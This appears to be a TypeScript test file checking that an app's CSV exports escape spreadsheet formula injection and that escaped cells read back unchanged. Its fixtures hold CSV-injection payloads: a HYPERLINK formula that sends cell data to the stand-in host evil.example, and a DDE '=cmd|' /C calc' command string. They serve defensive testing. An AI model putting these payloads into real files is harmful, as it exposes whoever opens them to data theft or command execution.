// CSV exports never hand a spreadsheet a formula, and what the app exports reads back unchanged.
import { readFileSync, readdirSync, statSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { feedbackToCsv, type FeedbackRow } from "@/lib/answer/feedback";
import { csvCell, escapeFormula, parseCsv, toCsv, unescapeFormula } from "@/lib/csv";

const ROOT = path.resolve(import.meta.dirname, "..", "..");
const TRIGGERS = ["=", "+", "-", "@", "\t", "\r"];

describe("formula escaping", () => {
  it("puts an apostrophe before every cell a spreadsheet would evaluate", () => {
    for (const t of TRIGGERS) expect(escapeFormula(`${t}HYPERLINK("http://evil.example","x")`)).toBe(`'${t}HYPERLINK("http://evil.example","x")`);
    expect(escapeFormula("=1+1")).toBe("'=1+1");
    expect(escapeFormula("'=1+1")).toBe("''=1+1");
    for (const plain of ["hello", "a=b", " =x", "'quoted'", "", "1-2"]) expect(escapeFormula(plain)).toBe(plain);
  });

  it("quotes every cell, escapes text but writes numbers as numbers", () => {
    expect(csvCell("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvCell('say "hi"')).toBe(`"say ""hi"""`);
    expect(csvCell(-1)).toBe(`"-1"`);
    expect(csvCell(null)).toBe(`""`);
    expect(toCsv(["a", "b"], [["@SUM(A1)", 2]])).toBe(`a,b\r\n"'@SUM(A1)","2"\r\n`);
  });

  it("property: no exported text cell starts with a formula character, and import gives the text back", () => {
    const text = fc.oneof(fc.string(), fc.tuple(fc.constantFrom(...TRIGGERS, "'", "''"), fc.string()).map(([a, b]) => a + b));
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { maxLength: 5 }), (rows) => {
        const csv = toCsv(["x", "y"], rows);
        const back = parseCsv(csv).slice(1);
        expect(back.length).toBe(rows.length);
        back.forEach((r, i) => {
          for (const cell of r.fields) expect(TRIGGERS.includes(cell[0] ?? "")).toBe(false);
          expect(r.fields.map(unescapeFormula)).toEqual(rows[i]);
        });
      }),
      { numRuns: 2000 },
    );
  });
});

describe("every CSV export", () => {
  it("feedback export escapes comments, questions and titles", () => {
    const row: FeedbackRow = {
      id: "f1",
      createdAt: "2026-01-01T00:00:00.000Z",
      rating: -1,
      reason: "wrong",
      comment: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      question: "+1 what is the policy?",
      user: "@admin",
      queryLogId: null,
      chunks: [{ chunkId: "c1", title: "-Secret", url: null, excerpt: null }],
    };
    const [, line] = feedbackToCsv([row]).trim().split("\r\n");
    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(line).toContain(`"'+1 what is the policy?"`);
    expect(line).toContain(`"'@admin"`);
    expect(line).toContain(`"'-Secret"`);
    expect(line).toContain(`"-1"`); // a number, not text: left as it is
  });

  // A new CSV export must build its body with lib/csv.ts and be added here with a test of its own.
  it("is one of the known exports, each built with lib/csv.ts", () => {
    const files: string[] = [];
    const walk = (dir: string) => {
      for (const name of readdirSync(path.join(ROOT, dir))) {
        const rel = path.join(dir, name);
        if (statSync(path.join(ROOT, rel)).isDirectory()) walk(rel);
        else if (/\.(ts|tsx)$/.test(name) && /text\/csv;/.test(readFileSync(path.join(ROOT, rel), "utf8"))) files.push(rel);
      }
    };
    for (const dir of ["app", "lib", "components", "scripts", "workers"]) walk(dir);
    expect(files.sort()).toEqual(["app/api/feedback/route.ts", "lib/evaluate/datasets.ts"]);
    expect(readFileSync(path.join(ROOT, "lib/evaluate/datasets.ts"), "utf8")).toMatch(/import \{[^}]*\btoCsv\b[^}]*\} from "\.\.\/csv"/);
    expect(readFileSync(path.join(ROOT, "app/api/feedback/route.ts"), "utf8")).toMatch(/feedbackToCsv/);
    expect(readFileSync(path.join(ROOT, "lib/answer/feedback.ts"), "utf8")).toMatch(/import \{[^}]*\btoCsv\b[^}]*\} from "\.\.\/csv"/);
  });
});
